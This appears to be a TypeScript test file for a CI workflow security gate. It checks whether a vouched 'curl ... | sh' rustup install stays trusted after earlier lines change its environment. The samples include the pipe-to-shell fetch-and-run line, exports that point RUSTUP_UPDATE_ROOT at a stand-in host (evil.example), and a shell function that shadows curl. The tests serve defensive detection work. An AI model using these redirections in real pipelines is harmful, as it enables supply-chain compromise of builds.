// redteam192: a vouched fetch-and-run line after an assignment in its own script (`export
// RUSTUP_UPDATE_ROOT=…`, `declare -x`, a variable of the installer's set bare then exported) runs
// under what the change set there: the start ran it without.
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupTemp } from '../helpers/repo.js';

afterAll(cleanupTemp);

type Files = Record<string, string>;
const WF = '.github/workflows/ci.yml';
const AUDIT = 'npx gitguard audit';
const CHECKOUT = '      - uses: actions/checkout@v4\n        with:\n          fetch-depth: 0\n';
const RUSTUP = 'curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y';
/** The gate job: one step running `lines`, then the audit. */
const gate = (...lines: string[]): Files => ({
  [WF]: `on: push\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n${CHECKOUT}      - run: ${JSON.stringify(lines.join('\n'))}\n      - run: ${AUDIT}\n`,
});
const START = gate(RUSTUP);

describe('redteam192: a vouched fetch line after an assignment in its script', () => {
  const batch = gateBatch(START);
  const cases: Array<[string, Files, boolean]> = [
    ['a line added after it', gate(RUSTUP, 'cargo -V'), true],
    ['set -eu and an echo before it', gate('set -eu', 'echo installing', RUSTUP), true],
    ['a function named curl before it', gate('curl() { echo x; }', RUSTUP), false],
    ['export before it', gate('export RUSTUP_UPDATE_ROOT=https://evil.example', RUSTUP), false],
    ['declare -x before it', gate('declare -x RUSTUP_UPDATE_ROOT=https://evil.example', RUSTUP), false],
    [
      'set bare, then exported',
      gate('RUSTUP_UPDATE_ROOT=https://evil.example', 'export RUSTUP_UPDATE_ROOT', RUSTUP),
      false,
    ],
  ];
  for (const [name, after, kept] of cases)
    it(`${kept ? 'kept' : 'lost'}: ${name}`, batch.add(START, after, kept), 600_000);
});
